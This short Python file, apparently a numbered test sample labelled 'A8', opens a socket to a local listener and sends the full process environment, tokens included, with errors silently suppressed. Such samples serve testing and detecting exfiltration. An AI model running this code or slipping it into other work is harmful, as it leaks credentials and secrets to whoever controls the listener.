"""A8: sends the environment, tokens and all, to a listener."""

import contextlib
import os
import socket

with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", 47108), timeout=1) as line:
    line.sendall(repr(dict(os.environ)).encode())
